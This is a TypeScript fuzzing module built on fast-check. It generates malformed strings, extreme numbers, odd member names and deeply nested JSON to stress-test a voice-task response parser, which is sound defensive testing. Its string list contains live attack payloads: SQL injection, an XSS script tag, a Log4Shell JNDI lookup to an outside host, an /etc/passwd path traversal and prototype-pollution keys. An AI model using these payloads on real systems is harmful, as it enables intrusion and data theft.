import fc from 'fast-check';

/** A piece of a string as it is sent, and as it reads once it is well-formed. */
export interface Piece {
  readonly sent: string;
  readonly stored: string;
}

const same = (text: string): Piece => ({ sent: text, stored: text });
const REPLACEMENT = '\ufffd';

/** None of these is white space, so that trimming leaves them. */
const ODD_PIECES: readonly Piece[] = [
  { sent: '\ud800', stored: REPLACEMENT },
  { sent: '\udfff', stored: REPLACEMENT },
  { sent: '\udc00\ud800', stored: REPLACEMENT + REPLACEMENT },
  { sent: '\ud83d\u0041', stored: `${REPLACEMENT}A` },
  ...[
    '\u0000',
    '\u0001',
    '\b',
    '\u001b[31m',
    '\u007f',
    '\u0085',
    '\u200b',
    '\u202e',
    '\u061c',
    '\ufffe',
    '\uffff',
    '\ufdd0',
    '\u{1ffff}',
    '\u{10ffff}',
    '😀',
    'é',
    'e\u0301',
    'ﷺ',
    'İ',
    'ß',
    '"',
    '\\',
    '\\u0041',
    '/',
    "'; DROP TABLE VoiceTasks; --",
    '<script>alert(1)</script>',
    '${jndi:ldap://example.com/a}',
    '{{7*7}}',
    '%00%2e%2e%2f',
    '../../etc/passwd',
    '__proto__',
    'constructor',
    '#attribute',
    ':value',
    'NaN',
    '-0',
    '1e400',
    'a,b',
  ].map(same),
];

export const oddPiece: fc.Arbitrary<Piece> = fc.constantFrom(...ODD_PIECES);

/** What trimming takes away. */
export const WHITE_SPACE = ['', ' ', '\t\n\v\f\r', '\u00a0', '\u1680\u2003\u3000', '\u2028\u2029', '\ufeff'];

/** Strings that cause trouble in some programs, for fields whose content is not promised. */
const oddText: fc.Arbitrary<string> = fc.oneof(
  fc.array(oddPiece, { maxLength: 6 }).map((pieces) => pieces.map(({ sent }) => sent).join('')),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    ...WHITE_SPACE,
    'fail',
    'NULL',
    'None',
    'undefined',
    'success',
    'SUCCESS',
    'completed',
    '200',
    '-1',
  ),
  fc
    .tuple(
      fc.constantFrom('x', '€', '😀', '\u0000', '\\', '"', '\ud800', ' '),
      fc.constantFrom(127, 128, 129, 255, 256, 257, 511, 512, 513, 5_000),
    )
    .map(([unit, length]) => unit.repeat(length)),
);

/** JSON as text: much that a parser takes no `JSON.stringify` would write. */
export type JsonSource = string;

/** A member of an object: a name as it is, a value as JSON. */
export type Member = readonly [name: string, value: JsonSource];

const ODD_NUMBERS: readonly JsonSource[] = [
  '0',
  '-0',
  '-0.0e-0',
  '200',
  '200.0',
  '2e2',
  '20000e-2',
  '200.5',
  '-1',
  '9007199254740991',
  '9007199254740992',
  '9007199254740993',
  '-9007199254740993',
  '18446744073709551616',
  '12345678901234567890123456789012345678',
  '123456789012345678901234567890123456789',
  '0.1234567890123456789012345678901234567890123',
  '9.99e125',
  '1e126',
  '1e-130',
  '1e-131',
  '1e-400',
  '1e308',
  '1e309',
  '1e400',
  '-1e400',
  '1E+0000000000000000000000000000000000000002',
  '1e99999999999999999999',
  '1e-99999999999999999999',
  '5e-324',
  '9'.repeat(400),
  `0.${'0'.repeat(400)}1`,
];

const oddNumber: fc.Arbitrary<JsonSource> = fc.constantFrom(...ODD_NUMBERS);

/** One text, written in any of the ways that JSON has for it. */
export function quote(text: string, style: 'plain' | 'escaped' | 'ESCAPED' = 'plain'): JsonSource {
  if (style === 'plain') return JSON.stringify(text);
  const hex = (unit: string) => unit.charCodeAt(0).toString(16).padStart(4, '0');
  const escaped = text.replaceAll(
    /[^]/g,
    (unit) => `\\u${style === 'ESCAPED' ? hex(unit).toUpperCase() : hex(unit)}`,
  );
  return `"${escaped}"`;
}

export const quoteStyle = fc.constantFrom('plain', 'plain', 'escaped', 'ESCAPED');

export const oddString: fc.Arbitrary<JsonSource> = fc
  .tuple(oddText, quoteStyle)
  .map(([text, style]) => quote(text, style));

export function objectOf(members: readonly Member[]): JsonSource {
  return `{${members.map(([name, value]) => `${quote(name)}:${value}`).join(',')}}`;
}

/** Names that are read nowhere: no place of a field, and what every object inherits. */
export const oddName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
    'then',
    'toJSON',
    'length',
    '',
    '0',
    '4294967295',
    'TaskId',
    'taskid',
    'data.taskId',
    'taskId\u0000',
    'task‐id',
    '\ud800',
    '\u0000',
    'x'.repeat(300),
  ),
  fc.string({ unit: 'binary', maxLength: 3 }),
);

/** Values that would be a result, an id or a status, if they were read there. */
const BAIT: readonly JsonSource[] = [
  '{"taskId":"bait","voiceId":"bait","status":"success","code":200}',
  '{"data":{"taskId":"bait","voiceId":"bait","status":"success"}}',
  '["bait"]',
  '{"__proto__":{"taskId":"bait"}}',
];

/** Any value of any type, deep enough to overflow a recursive reader, and small enough not to be refused for its size. */
export const oddValue: fc.Arbitrary<JsonSource> = fc.letrec<{ value: JsonSource; leaf: JsonSource }>(
  (tie) => ({
    value: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      tie('leaf'),
      fc.array(tie('value'), { maxLength: 3 }).map((values) => `[${values.join(', ')}]`),
      fc.array(fc.tuple(oddName, tie('value')), { maxLength: 3 }).map(objectOf),
    ),
    leaf: fc.oneof(
      fc.constantFrom('null', 'true', 'false', '[]', '{}', '[null]', ...BAIT),
      oddNumber,
      oddString,
      fc.integer({ min: 1, max: 3_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
      fc.integer({ min: 1, max: 1_500 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
    ),
  }),
).value;
